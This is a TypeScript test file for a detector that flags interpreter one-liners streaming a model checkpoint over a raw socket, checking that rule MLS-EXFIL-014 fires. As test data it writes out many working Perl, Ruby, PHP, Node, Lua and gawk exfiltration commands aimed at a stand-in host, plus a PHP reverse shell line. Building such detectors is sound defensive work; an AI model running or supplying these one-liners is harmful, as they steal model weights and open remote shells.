/**
 * Interpreter code sending a file over a raw socket (exec-interpreter-socket-send.ts) as
 * `attrs.exec.socketIo` reads it through real canonical readings, and MLS-EXFIL-014 through the
 * shipped rule set and the real engine: Perl, Ruby, PHP, Node, Lua and gawk one-liners that stream
 * a checkpoint to a listener. Code that writes only what it spells (a health check, a request) or
 * that reads a file and opens no socket sends nothing of the pod's.
 */
import { describe, expect, it } from 'vitest';
import { mulberry32 } from '../../core/mulberry32.js';
import { canonicalExecValue } from './exec-canonical.js';
import { execRuleIds } from './exec-events.test-support.js';
import { lexCode } from './exec-interpreter.js';
import { socketSend } from './exec-interpreter-socket-send.js';
import type { Lang } from './exec-interpreter-token.js';

const io = (argv: string[]): readonly string[] => canonicalExecValue(argv)!.socketIo;
const H = '203.0.113.9';
const M = '/mnt/ckpt/model.safetensors';

const SENDS: Array<[string[], string]> = [
  [['perl', '-MIO::Socket', '-e', `$s=IO::Socket::INET->new("${H}:4444");open(F,"${M}");print $s $_ while <F>`], 'send perl'],
  [['perl', '-e', `use IO::Socket::INET;my $s=IO::Socket::INET->new(PeerAddr=>"${H}",PeerPort=>4444);open(my $f,"<","${M}");binmode $f;while(read($f,my $b,65536)){$s->send($b)}`], 'send perl'],
  [['perl', '-e', `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("${H}")));open(F,"${M}");print {S} $_ while <F>;`], 'send perl'],
  [['perl', '-MIO::Socket', '-e', `$s=IO::Socket::INET->new("${H}:4444");syswrite($s,$_) while <STDIN>`], 'send perl'],
  [['ruby', '-rsocket', '-e', `s=TCPSocket.new("${H}",4444);s.write(File.binread("${M}"))`], 'send ruby'],
  [['ruby', '-rsocket', '-e', `TCPSocket.new("${H}",4444).write(File.read("${M}"))`], 'send ruby'],
  [['ruby', '-rsocket', '-e', `s=TCPSocket.open("${H}",4444);IO.copy_stream("${M}",s)`], 'send ruby'],
  [['ruby', '-rsocket', '-e', `s=TCPSocket.new("${H}",4444);s << STDIN.read`], 'send ruby'],
  [['ruby', '-rsocket', '-e', `s=TCPSocket.new("${H}",4444);File.open("${M}","rb"){|f| s.write(f.read(1<<20)) until f.eof?}`], 'send ruby'],
  // The socket handed to a block (`{ |s| … }`, `do |s| … end`), Ruby's usual way, with or without parentheses.
  [['ruby', '-rsocket', '-e', `TCPSocket.open("${H}",4444) { |s| s.write(File.binread("${M}")) }`], 'send ruby'],
  [['ruby', '-rsocket', '-e', `TCPSocket.new "${H}", 4444 do |s| s.print File.read("${M}") end`], 'send ruby'],
  [['ruby', '-rsocket', '-e', `Socket.tcp("${H}", 4444) { |sock, _| IO.copy_stream("${M}", sock) }`], 'send ruby'],
  [['php', '-r', `$s=fsockopen("${H}",4444);fwrite($s,file_get_contents("${M}"));`], 'send php'],
  [['php', '-r', `stream_copy_to_stream(fopen("${M}","rb"),stream_socket_client("tcp://${H}:4444"));`], 'send php'],
  [['php', '-r', `fputs(fsockopen("${H}",4444),file_get_contents("${M}"));`], 'send php'],
  [['node', '-e', `const s=require("net").connect(4444,"${H}");require("fs").createReadStream("${M}").pipe(s)`], 'send node'],
  [['node', '-e', `const net=require("net"),fs=require("fs");const c=net.createConnection({host:"${H}",port:4444},()=>{c.end(fs.readFileSync("${M}"))})`], 'send node'],
  [['lua', '-e', `local socket=require("socket");local s=socket.connect("${H}",4444);s:send(io.open("${M}","rb"):read("*a"))`], 'send lua'],
  [['gawk', `BEGIN{s="/inet/tcp/0/${H}/4444"} {print |& s}`, M], 'send awk'],
  [['awk', `BEGIN{while((getline l < "${M}")>0) print l |& "/inet/tcp/0/${H}/4444"}`], 'send awk'],
];

describe('interpreter code sending a file over a socket', () => {
  it('reads Perl, Ruby, PHP, Node, Lua and gawk', () => {
    for (const [argv, want] of SENDS) expect(io(argv), argv.join(' ')).toEqual([want]);
  });

  it('reads the code wherever the exec runs it, and MLS-EXFIL-014 alerts on it', () => {
    const sh = ['sh', '-c', `cd /mnt/ckpt && perl -MIO::Socket -e '$s=IO::Socket::INET->new("${H}:4444");open(F,"model.pt");print $s $_ while <F>'`];
    expect(io(sh)).toEqual(['send perl']);
    for (const [argv] of [...SENDS, [sh, '']] as Array<[string[], string]>) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
  });

  it('leaves sockets given spelled text, files read with no socket, and a socket handed to a shell', () => {
    for (const argv of [
      ['ruby', '-rsocket', '-e', 's=TCPSocket.new("redis",6379);s.write("PING\\r\\n");puts s.gets'],
      ['perl', '-MIO::Socket', '-e', '$s=IO::Socket::INET->new("redis:6379");print $s "PING\\r\\n";print scalar <$s>'],
      ['php', '-r', '$s=fsockopen("db",5432);fwrite($s,"\\n");fclose($s);'],
      ['node', '-e', 'const s=require("net").connect(80,"h");s.write("GET / HTTP/1.0\\r\\n\\r\\n");s.on("data",d=>console.log(d.toString()))'],
      ['awk', 'BEGIN { s="/inet/tcp/0/example.com/80"; print "GET / HTTP/1.0\\r\\n\\r\\n" |& s; while ((s |& getline l) > 0) print l }'],
      // A file read and printed to stdout; a socket printed to stdout by name (`print $s;`).
      ['perl', '-e', `open(F,"${M}");print $_ while <F>`],
      ['perl', '-MIO::Socket', '-e', `$s=IO::Socket::INET->new("h:1");open(F,"/etc/hosts");print $s;`],
      ['ruby', '-e', `puts File.read("${M}").size`],
      // Files opened to be written (a log beside a health check) are no source.
      ['perl', '-MIO::Socket', '-e', '$s=IO::Socket::INET->new("smtp:25");open(LOG,">>/tmp/l");print $s "HELO x\r\n";print LOG scalar <$s>'],
      ['php', '-r', '$s=fsockopen("db",5432);$l=fopen("/tmp/l","a");fwrite($s,"\n");fwrite($l,fgets($s));'],
      ['ruby', '-rsocket', '-e', 's=TCPSocket.new("redis",6379);File.open("/tmp/l","w"){|f| s.write("PING\r\n");f.puts s.gets}'],
      // A block's socket given spelled text; a block of another call beside a socket's statement.
      ['ruby', '-rsocket', '-e', 'TCPSocket.open("redis",6379) { |s| s.write("PING\r\n"); puts s.gets }'],
      ['ruby', '-rsocket', '-e', `TCPSocket.open("redis",6379).close; [1].each { |s| s.write(File.read("${M}")) }`],
      ['lua', '-e', 'local socket=require("socket");local s=socket.connect("h",80);local f=io.open("/tmp/l","w");s:send("GET / HTTP/1.0\r\n\r\n");f:write(s:receive())'],
    ]) expect(io(argv), argv.join(' ')).toEqual([]);
    // A reverse shell is a shell on the socket (MLS-RAY-015's), not a send.
    expect(io(['php', '-r', `$sock=fsockopen("${H}",1234);exec("/bin/sh -i <&3 >&3 2>&3");`])).toEqual(['shell sh']);
  });

  it('leaves Python to its own reading', () => {
    const lexed = lexCode(`import socket;s=socket.create_connection(("${H}",4444));s.sendall(open("${M}","rb").read())`, 'python');
    expect(socketSend(lexed.tokens, 'python')).toBeNull();
  });

  it('never throws on random tokens of every language', () => {
    const r = mulberry32(31);
    const WORDS = ['s', '$s', 'S', '=', '(', ')', '{', '}', ',', ';', '.', '->', ':', '<<', '|&', '<', '>', 'print', 'write', 'send', 'fwrite', 'syswrite', 'open', 'File', 'read', 'binread', 'STDIN', 'TCPSocket', 'new', 'IO::Socket::INET', 'fsockopen', 'require("net")', 'connect', 'pipe', 'copy_stream', 'stream_copy_to_stream', 'io', 'getline', '"/inet/tcp/0/h/1"', '$0', '"x"', '\n'];
    const langs: Lang[] = ['perl', 'ruby', 'php', 'js', 'lua', 'awk'];
    for (let n = 0; n < 2000; n++) {
      const lang = langs[n % langs.length]!;
      const code = Array.from({ length: Math.floor(r() * 40) }, () => WORDS[Math.floor(r() * WORDS.length)]!).join(r() < 0.5 ? ' ' : '');
      const v = socketSend(lexCode(code, lang).tokens, lang);
      expect(v === null || v.startsWith('send '), code).toBe(true);
    }
  });
});
